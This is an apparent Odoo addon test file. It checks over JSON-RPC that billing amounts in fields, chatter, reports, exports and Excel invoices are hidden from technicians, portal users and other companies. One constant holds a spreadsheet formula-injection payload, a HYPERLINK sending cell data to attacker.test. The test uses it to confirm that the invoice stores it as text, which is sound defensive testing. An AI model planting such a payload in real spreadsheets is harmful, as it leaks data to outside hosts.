# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Money is for billing groups only, through every channel, over real JSON-RPC.

A technician, a portal user of the customer and a billing user of another company log in over
HTTP and ask for amounts the way a hostile client would: fields, chatter (``mail.message`` and
the chatter's own route), reports and exports, the Excel invoice. Billing users of the company
still get them.
"""

import base64
import io
import json
from datetime import date

from openpyxl import load_workbook

from odoo import Command
from odoo.tests import tagged

from .billing_common import HaloBillingRunCommon
from .common import BILLING_USER
from .contract_common import HaloContractCommon
from .rpc_common import HaloRpcCase, RpcError

HOSTILE_NAME = '=HYPERLINK("http://attacker.test/?d="&A1,"Pay here")'
# Write-only entry fields: technicians type an amount in, reading gives 0.
ENTRY_FIELDS = {
    ("halo.expense", "amount_entry"),
    ("halo.ticket.item", "cost_entry"),
    ("halo.ticket.item", "price_entry"),
}
# Money that is not typed Monetary: amounts and blocks in floats, markups, price multipliers,
# explanations and rating data that spell amounts out, the timesheet cost.
OTHER_MONEY_FIELDS = {
    "halo.contract": ["topup_block", "threshold_value"],
    "halo.contract.ledger": ["explanation"],
    "halo.charge.rate.version": ["ooh_multiplier", "holiday_multiplier"],
    "res.company": ["halo_expense_markup"],
    "res.partner": ["halo_expense_markup"],
    "account.analytic.line": ["amount", "halo_rating_explanation", "halo_rating_data", "halo_billable_hours"],
    "timesheets.analysis.report": ["amount"],
    "halo.mileage": ["halo_explanation"],
    "halo.expense": ["halo_explanation"],
    "halo.ticket.item": ["halo_explanation"],
    "halo.billing.run.line": ["explanation", "parts"],
    "halo.rating.audit": ["old_explanation", "new_explanation"],
}


@tagged("post_install", "-at_install")
class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
    halo_other_company = True

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # the technician's timesheet cost: 40.00 an hour
        cls.employee.hourly_cost = 40.0
        # July's work of Acme, billed: 360.57 (see HaloBillingRunCommon._work)
        cls.actions, _trip, _expense, _item = HaloBillingRunCommon._work(cls, cls.ticket, day=7)
        cls.july_run = HaloBillingRunCommon._run(cls, partner_ids=[Command.set(cls.customer.ids)])
        cls.july_run.action_preview()
        cls.july_run.action_create_invoices()
        cls.invoice = cls.july_run.invoice_ids
        # a money contract of 1,500.00 (threshold 300.00), an hours contract of 3.5 h
        cls.money_contract = cls._contract(
            name="Prepaid support",
            prepay_kind="money",
            topup_block=1500,
            topup_product_id=cls.product_topup.id,
            topup_price=1500,
            threshold_type="absolute",
            threshold_value=300,
            user_id=cls.technician.id,
            notify_partner_ids=[Command.set((cls.technician | cls.billing_user).partner_id.ids)],
        )
        cls.money_contract.action_topup()
        cls.hours_contract = cls._contract(
            name="Prepaid hours",
            prepay_kind="hours",
            topup_block=3.5,
            topup_product_id=cls.product_topup.id,
            topup_price=315,
        )
        cls.hours_contract.action_topup()
        # a portal user of the customer, a billing user of another company
        cls.portal.partner_id.parent_id = cls.customer
        cls.billing_user_b = cls._halo_user(
            "halo_biller_b", "Bea Biller", f"base.group_user,{BILLING_USER}", company=cls.company_b
        )

    # ------------------------------------------------------------------ helpers

    def _messages_seen(self, client, record):
        """Everything ``client`` gets of the chatter of ``record``: ``mail.message`` over RPC
        and the chatter's own route, as one text."""
        seen = [
            client.call(
                "mail.message",
                "search_read",
                [("model", "=", record._name), ("res_id", "=", record.id)],
                ["body", "subject", "preview"],
            )
        ]
        try:
            seen.append(
                client._post("/mail/thread/messages", {"thread_model": record._name, "thread_id": record.id})
            )
        except RpcError as error:
            seen.append(error.name)
        return json.dumps(seen)

    def _download(self, client, url):
        response = client.get(url)
        self.assertEqual(response.status_code, 200, url)
        return load_workbook(io.BytesIO(response.content))

    def _sheet_rows(self, book, title):
        sheet = book[title]
        header = [cell.value for cell in sheet[1]]
        return header, {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}

    # ------------------------------------------------------------ money fields

    def _money_fields(self):
        """Every Monetary field the addon defines (on its models and on the ones it extends),
        and the other money fields, by model."""
        result = {model: set(fnames) for model, fnames in OTHER_MONEY_FIELDS.items()}
        for model_name in self.env.registry:
            for fname, field in self.env[model_name]._fields.items():
                ours = model_name.startswith("halo.") or field._module == "halo_helpdesk_billing"
                if ours and field.type == "monetary" and (model_name, fname) not in ENTRY_FIELDS:
                    result.setdefault(model_name, set()).add(fname)
        return result

    def test_no_money_field_for_technician_or_portal(self):
        """Whatever other groups they have (Analytic Accounting switched on), a technician and a
        portal user read no money field of the addon, on any record; billing users do."""
        self.env.ref("base.group_user").implied_ids |= self.env.ref("analytic.group_analytic_accounting")
        money = self._money_fields()
        self.assertLessEqual(
            {"fee_amount", "topup_price", "balance_amount", "topup_block"}, money["halo.contract"]
        )
        self.assertIn("amount", money["halo.billing.adjust.wizard"])
        clients = [self.rpc(self.technician), self.rpc(self.portal)]
        for model, fnames in sorted(money.items()):
            for fname in sorted(fnames):
                for client in clients:
                    with self.subTest(model=model, field=fname, user=client.login):
                        self.assertRpcRefused(client, model, "search_read", [], [fname], limit=5)
                        self.assertRpcRefused(client, model, "search", [(fname, "!=", False)], limit=1)
        # the entry fields give nothing back
        self.assertEqual(
            clients[0].call("halo.ticket.item", "search_read", [], ["cost_entry", "price_entry"], limit=1)[0],
            {
                "id": self.env["halo.ticket.item"].search([], limit=1).id,
                "cost_entry": 0.0,
                "price_entry": 0.0,
            },
        )
        # the billing user reads the contracts' and the work's money
        biller = self.rpc(self.billing_user)
        contract = biller.call(
            "halo.contract", "read", self.money_contract.ids, ["balance_amount", "topup_block"]
        )
        self.assertEqual(
            contract, [{"id": self.money_contract.id, "balance_amount": 1500.0, "topup_block": 1500.0}]
        )
        self.assertEqual(
            biller.call("account.analytic.line", "read", self.actions.ids, ["halo_rated_amount"]),
            [{"id": action.id, "halo_rated_amount": 142.5} for action in self.actions],
        )

    # -------------------------------------------------------- reports / exports

    def test_report_export_for_billing_users_of_the_company_only(self):
        tech, portal = self.rpc(self.technician), self.rpc(self.portal)
        for client in (tech, portal):
            with self.subTest(user=client.login):
                self.assertRpcRefused(client, "halo.billing.report", "action_export_xlsx", [])
                self.assertRpcRefused(client, "halo.billing.report", "_halo_xlsx", [], [], True)
                self.assertRpcRefused(client, "halo.billing.report", "search_read", [], ["amount"])
        # nothing was left for the technician to download either
        self.assertFalse(
            self.env["ir.attachment"].search(
                [("create_uid", "=", self.technician.id), ("name", "like", "billing-report")]
            )
        )
        # the billing user of the company: July's 360.57 for Acme, no cost or margin columns
        biller = self.rpc(self.billing_user)
        action = biller.call("halo.billing.report", "action_export_xlsx", [])
        header, rows = self._sheet_rows(self._download(biller, action["url"]), "Customers")
        self.assertEqual(rows[self.customer.display_name][header.index("2026-07 billed amount")], 360.57)
        self.assertFalse([title for title in header if "margin" in title or "cost" in title])
        # ... which the technician cannot download in their turn
        self.assertNotEqual(tech.get(action["url"]).status_code, 200)
        attachment_id = int(action["url"].split("/")[3].split("?")[0])
        self.assertRpcRefused(tech, "ir.attachment", "read", [attachment_id], ["datas"])
        # a manager's export has the cost and margin columns
        manager = self.rpc(self.billing_manager)
        action = manager.call("halo.billing.report", "action_export_xlsx", [])
        header, rows = self._sheet_rows(self._download(manager, action["url"]), "Customers")
        self.assertIn("2026-07 billed margin", header)
        # a billing user of another company gets a workbook without any of it
        biller_b = self.rpc(self.billing_user_b)
        action = biller_b.call("halo.billing.report", "action_export_xlsx", [])
        book = self._download(biller_b, action["url"])
        for title in book.sheetnames:
            self.assertEqual(book[title].max_row, 1, f"{title} of company A exported to company B")
        self.assertEqual(biller_b.call("halo.billing.report", "search_read", [], ["amount"]), [])
        totals = {
            client.login: client.call("halo.billing.report", "formatted_read_group", [], [], ["amount:sum"])
            for client in (biller, biller_b)
        }
        self.assertEqual([row["amount:sum"] for row in totals["halo_biller"]], [360.57])
        self.assertEqual([row["amount:sum"] for row in totals["halo_biller_b"]], [False])
        # the PDF invoice: not for the technician nor for the portal user of another customer
        url = f"/report/pdf/account.report_invoice/{self.invoice.id}"
        self.portal.partner_id.parent_id = self.other_customer
        for client in (tech, portal):
            response = client.get(url)
            self.assertNotIn("application/pdf", response.headers.get("Content-Type", ""), client.login)

    def test_rating_audits_and_excel_templates_of_the_company_only(self):
        audit = (
            self.env["halo.rating.audit"]
            .sudo()
            .create(
                {
                    "line_id": self.actions[0].id,
                    "reason": "Rate corrected",
                    "old_amount": 95.0,
                    "new_amount": 142.5,
                    "old_hours": 1.0,
                    "new_hours": 1.5,
                }
            )
        )
        template = self.env["halo.xlsx.template"].create(
            {
                "name": "Acme layout",
                "company_id": self.env.company.id,
                "datas": base64.b64encode(self._default_template()),
            }
        )
        biller, biller_b = self.rpc(self.billing_user), self.rpc(self.billing_user_b)
        self.assertEqual(
            biller.call("halo.rating.audit", "search_read", [("id", "=", audit.id)], ["new_amount"]),
            [{"id": audit.id, "new_amount": 142.5}],
        )
        self.assertEqual(biller_b.call("halo.rating.audit", "search_read", [], ["new_amount"]), [])
        self.assertRpcRefused(biller_b, "halo.rating.audit", "read", [audit.id], ["new_amount"])
        self.assertEqual(
            biller.call("halo.xlsx.template", "search", [("id", "=", template.id)]), [template.id]
        )
        self.assertEqual(biller_b.call("halo.xlsx.template", "search", [("id", "=", template.id)]), [])
        self.assertRpcRefused(
            self.rpc(self.technician), "halo.rating.audit", "search_read", [], ["new_amount"]
        )

    def _default_template(self):
        from ..services.xlsx_invoice import default_template

        return default_template()

    # ------------------------------------------------------------ contract money

    def test_balance_text_gives_technicians_hours_or_exhausted(self):
        tech, biller = self.rpc(self.technician), self.rpc(self.billing_user)
        money, hours = self.money_contract.id, self.hours_contract.id
        self.assertEqual(biller.call("halo.contract", "halo_balance_text", [money]), "$\xa01,500.00")
        text = tech.call("halo.contract", "halo_balance_text", [money])
        self.assertNotIn("1,500", text)
        self.assertNotIn("1500", text)
        self.assertEqual(tech.call("halo.contract", "halo_balance_text", [hours]), "3.50 h")
        self.env["halo.contract.ledger"].create(
            {
                "contract_id": money,
                "kind": "adjustment",
                "amount": -1500,
                "reason": "Refunded",
            }
        )
        self.assertEqual(tech.call("halo.contract", "halo_balance_text", [money]), "exhausted")
        self.assertEqual(biller.call("halo.contract", "halo_balance_text", [money]), "$\xa00.00")
        self.assertRpcRefused(self.rpc(self.portal), "halo.contract", "halo_balance_text", [money])
        self.assertRpcRefused(self.rpc(self.billing_user_b), "halo.contract", "halo_balance_text", [money])

    def test_contract_money_fields_billing_only(self):
        tech, biller = self.rpc(self.technician), self.rpc(self.billing_user)
        money = self.money_contract.id
        for fname in ("topup_block", "threshold_value", "topup_price", "balance_amount", "fee_amount"):
            with self.subTest(field=fname):
                self.assertRpcRefused(tech, "halo.contract", "read", [money], [fname])
                self.assertRpcRefused(tech, "halo.contract", "search", [(fname, ">", 0)])
                self.assertRpcRefused(tech, "halo.contract", "web_read", [money], {fname: {}})
        self.assertEqual(
            biller.call("halo.contract", "read", [money], ["topup_block", "threshold_value"]),
            [{"id": money, "topup_block": 1500.0, "threshold_value": 300.0}],
        )
        # the technician still reads what the ticket banner needs, and the contract form loads
        self.assertEqual(
            tech.call("halo.contract", "read", [self.hours_contract.id], ["balance_hours", "contract_type"]),
            [{"id": self.hours_contract.id, "balance_hours": 3.5, "contract_type": "Prepaid hours + PAYG"}],
        )
        views = tech.call("halo.contract", "get_views", [[False, "form"], [False, "list"]])
        fields = views["models"]["halo.contract"]["fields"]
        self.assertFalse({"topup_block", "threshold_value", "balance_amount"} & set(fields))
        self.assertRpcRefused(self.rpc(self.portal), "halo.contract", "read", [money], ["name"])

    def test_timesheet_cost_billing_only_with_analytic_accounting(self):
        # the Analytic Accounting setting gives its group to every internal user
        self.env.ref("base.group_user").implied_ids |= self.env.ref("analytic.group_analytic_accounting")
        self.assertTrue(self.technician.has_group("analytic.group_analytic_accounting"))
        action = self.actions[0]  # 1 h 20 at 40.00 an hour: -53.33
        self.assertEqual(action.amount, -53.33)
        tech = self.rpc(self.technician)
        self.assertRpcRefused(tech, "account.analytic.line", "read", action.ids, ["amount"])
        self.assertRpcRefused(tech, "account.analytic.line", "search_read", [("amount", "<", 0)], ["name"])
        self.assertRpcRefused(
            tech,
            "account.analytic.line",
            "formatted_read_group",
            [("id", "in", self.actions.ids)],
            [],
            ["amount:sum"],
        )
        self.assertRpcRefused(
            tech, "timesheets.analysis.report", "search_read", [("id", "in", self.actions.ids)], ["amount"]
        )
        self.assertRpcRefused(
            tech, "timesheets.analysis.report", "formatted_read_group", [], ["user_id"], ["amount:sum"]
        )
        self.assertRpcRefused(tech, "hr.employee", "read", self.employee.ids, ["hourly_cost"])
        # the technician's timesheet views still load, without the cost
        for model, refs in {
            "account.analytic.line": (
                "hr_timesheet.hr_timesheet_line_tree",
                "hr_timesheet.view_hr_timesheet_line_pivot",
                "hr_timesheet.view_hr_timesheet_line_graph_all",
                "hr_timesheet.view_my_timesheet_line_pivot",
            ),
            "timesheets.analysis.report": (
                "hr_timesheet.timesheets_analysis_report_pivot_employee",
                "hr_timesheet.timesheets_analysis_report_list",
            ),
        }.items():
            for ref in refs:
                view = self.env.ref(ref)
                with self.subTest(view=ref):
                    result = tech.call(model, "get_views", [[view.id, view.type]])
                    self.assertNotIn("amount", result["models"][model]["fields"])
                    self.assertNotIn('name="amount"', result["views"][view.type]["arch"])
        self.assertEqual(
            tech.call("account.analytic.line", "read", action.ids, ["unit_amount"])[0]["unit_amount"],
            action.unit_amount,
        )
        # ... and the technician still records work: 1 h at 40.00 costs 40.00
        self.ticket.user_id = self.technician
        new_id = tech.call(
            "account.analytic.line",
            "create",
            [
                {
                    "halo_ticket_id": self.ticket.id,
                    "name": "Call back",
                    "halo_start": "2026-08-03 09:00:00",
                    "halo_end": "2026-08-03 10:00:00",
                }
            ],
        )[0]
        self.assertEqual(self.env["account.analytic.line"].browse(new_id).amount, -40.0)
        # nor through the profitability of the project the timesheets are on (a project user)
        self.technician.group_ids |= self.env.ref("project.group_project_user")
        self.assertTrue(self.project.account_id)
        panel = tech.call("project.project", "get_panel_data", self.project.ids)
        self.assertNotIn("profitability_items", panel)
        self.assertNotIn("133.33", json.dumps(panel))
        # billing users see the cost: 53.33 + 40.00 + 40.00 (the new action) = 133.33 for the project
        biller = self.rpc(self.billing_user)
        self.billing_user.group_ids |= self.env.ref("project.group_project_user")
        panel = biller.call("project.project", "get_panel_data", self.project.ids)
        self.assertEqual(panel["profitability_items"]["costs"]["total"]["billed"], -133.33)
        self.assertEqual(
            biller.call("account.analytic.line", "read", action.ids, ["amount"])[0]["amount"], -53.33
        )
        rows = biller.call("timesheets.analysis.report", "search_read", [("id", "=", action.id)], ["amount"])
        self.assertEqual(rows[0]["amount"], -53.33)

    # ------------------------------------------------------------------- chatter

    def test_ledger_adjustment_message_billing_only(self):
        biller, tech, portal = (
            self.rpc(self.billing_user),
            self.rpc(self.technician),
            self.rpc(self.portal),
        )
        biller.call(
            "halo.contract.ledger",
            "create",
            [
                {
                    "contract_id": self.money_contract.id,
                    "kind": "adjustment",
                    "amount": -98.76,
                    "reason": "Goodwill credit",
                }
            ],
        )
        self.assertIn("-98.76", self._messages_seen(biller, self.money_contract))
        for client in (tech, portal):
            with self.subTest(user=client.login):
                seen = self._messages_seen(client, self.money_contract)
                self.assertNotIn("98.76", seen)
                self.assertNotIn("Goodwill", seen)
        # nor through the contract's own message field
        try:
            data = tech.call(
                "halo.contract",
                "web_read",
                [self.money_contract.id],
                {"message_ids": {"fields": {"body": {}}}},
            )
        except RpcError as error:
            data = error.name
        self.assertNotIn("98.76", json.dumps(data))

    def test_run_adjustment_message_billing_only(self):
        self._work(self.ticket_b, day=9)
        run = self._run(partner_ids=[Command.set(self.other_customer.ids)])
        run.action_preview()
        line = run.line_ids.filtered(lambda charge: charge.kind == "labour")[0]
        biller, tech = self.rpc(self.billing_user), self.rpc(self.technician)
        wizard = biller.call(
            "halo.billing.adjust.wizard",
            "create",
            [
                {
                    "line_id": line.id,
                    "amount": 77.77,
                    "reason": "Loyalty discount",
                }
            ],
        )
        biller.call("halo.billing.adjust.wizard", "action_apply", wizard)
        self.assertIn("77.77", self._messages_seen(biller, run))
        # technicians read the run (it is on their work) but not its messages
        self.assertEqual(tech.call("halo.billing.run", "read", run.ids, ["name"])[0]["name"], run.name)
        seen = self._messages_seen(tech, run)
        self.assertNotIn("77.77", seen)
        self.assertNotIn("142.50", seen)
        self.assertNotIn("Loyalty", seen)
        self.assertRpcRefused(tech, "halo.billing.adjust.wizard", "read", wizard, ["amount"])

    def test_threshold_email_reaches_billing_staff_and_customer_only(self):
        contract = self.money_contract
        # the technician also follows the contract (as its account manager would)
        contract.message_subscribe(partner_ids=self.technician.partner_id.ids)
        # 1,265.50 consumed: 1,500.00 - 1,265.50 = 234.50 <= 300.00, the threshold is crossed
        parts = {
            "a": [
                {
                    "mode": "prepay_money",
                    "contract_id": contract.id,
                    "hours": 4.5,
                    "amount": 1265.5,
                    "explanation": "Prepaid",
                }
            ]
        }
        _run, lines = self._run_lines(contract, parts, date(2026, 8, 31))
        self.Contract.sudo()._halo_commit_consumption(lines)
        self.assertTrue(contract.threshold_reached)
        notice = contract.message_ids.filtered(lambda m: "has reached its threshold" in (m.body or ""))
        self.assertEqual(len(notice), 1)
        self.assertIn("$&nbsp;234.50", notice.body)
        # the customer's contact and the billing user are e-mailed; the technician (account
        # manager, on the notify list, follower) is neither a recipient nor notified
        self.assertEqual(notice.partner_ids, self.contact | self.billing_user.partner_id)
        mails = self.env["mail.mail"].sudo().search([("mail_message_id", "=", notice.id)])
        self.assertTrue(mails)
        self.assertNotIn(self.technician.partner_id, mails.recipient_ids)
        self.assertNotIn(self.technician.partner_id, notice.sudo().notification_ids.res_partner_id)
        tech = self.rpc(self.technician)
        self.assertNotIn("234.50", self._messages_seen(tech, contract))
        self.assertEqual(tech.call("mail.message", "search_read", [("id", "=", notice.id)], ["body"]), [])
        self.assertRpcRefused(tech, "mail.message", "read", notice.ids, ["body"])
        self.assertIn("234.50", self._messages_seen(self.rpc(self.billing_user), contract))

    def _expired_money_contract_of_globex(self):
        """Globex's contract ended last year with 456.78 left (not written off)."""
        contract = self._contract(
            name="Old prepaid",
            partner_id=self.other_customer.id,
            contact_id=False,
            prepay_kind="money",
            topup_block=456.78,
            topup_product_id=self.product_topup.id,
            topup_price=456.78,
            date_start=date(2025, 1, 1),
            date_end=date(2025, 12, 31),
            expire_balance=False,
            on_expired="payg",
        )
        contract.action_topup()
        contract.state = "expired"
        self.assertEqual(contract.balance_amount, 456.78)
        return contract

    def test_new_ticket_note_never_shows_money(self):
        self._expired_money_contract_of_globex()
        biller, tech = self.rpc(self.billing_user), self.rpc(self.technician)
        # a billing user opens a ticket for Globex: the note stays on the ticket
        ticket_id = biller.call(
            "helpdesk.ticket",
            "create",
            [
                {
                    "name": "Server down again",
                    "description": "<p>Help</p>",
                    "partner_id": self.other_customer.id,
                    "team_id": self.team.id,
                    "user_id": self.technician.id,
                }
            ],
        )[0]
        # ... and the mail gateway another one
        self.other_customer.email = "ap@globex.test"
        gateway_id = self.env["mail.thread"].message_process(
            "helpdesk.ticket",
            (
                "From: Globex AP <ap@globex.test>\r\nTo: support@halo.test\r\nSubject: Printer again\r\n"
                "Message-ID: <halo-money-1@globex.test>\r\nContent-Type: text/plain\r\n\r\nHelp\r\n"
            ),
        )
        self.env["helpdesk.ticket"].browse(gateway_id).user_id = self.technician
        for ticket in self.env["helpdesk.ticket"].browse([ticket_id, gateway_id]):
            with self.subTest(ticket=ticket.name):
                note = ticket.message_ids.filtered(lambda m: "Old prepaid" in (m.body or ""))
                self.assertEqual(len(note), 1)
                self.assertIn("expired", note.body)
                self.assertNotIn("456.78", note.body)
                seen = self._messages_seen(tech, ticket)
                self.assertIn("expired on", seen)
                self.assertNotIn("456.78", seen)
        # the banner still shows the billing user the amount
        self.assertIn(
            "456.78",
            biller.call("helpdesk.ticket", "read", [ticket_id], ["halo_contract_warning"])[0][
                "halo_contract_warning"
            ],
        )

    # ------------------------------------------------------------ Excel invoice

    def test_excel_invoice_writes_a_technician_formula_as_text(self):
        tech = self.rpc(self.technician)
        tech.call("res.users", "write", [self.technician.id], {"name": HOSTILE_NAME})
        self.assertRpcRefused(tech, "account.move", "action_halo_excel_invoice", self.invoice.ids)
        self.assertRpcRefused(
            self.rpc(self.portal), "account.move", "action_halo_excel_invoice", self.invoice.ids
        )
        biller = self.rpc(self.billing_user)
        attachment_ids = biller.call("account.move", "action_halo_excel_invoice", self.invoice.ids)
        datas = biller.call("ir.attachment", "read", attachment_ids, ["datas"])[0]["datas"]
        sheet = load_workbook(io.BytesIO(base64.b64decode(datas))).worksheets[0]
        # row 10 on: one row per invoice line, column C the technician
        technicians = [sheet.cell(row=row, column=3) for row in range(10, 16)]
        hostile = [cell for cell in technicians if cell.value == HOSTILE_NAME]
        self.assertTrue(hostile)
        self.assertEqual({cell.data_type for cell in hostile}, {"s"})
        # the template's own totals are untouched numbers
        self.assertEqual(sheet["H17"].value, 360.57)
        self.assertRpcRefused(tech, "ir.attachment", "read", attachment_ids, ["datas"])
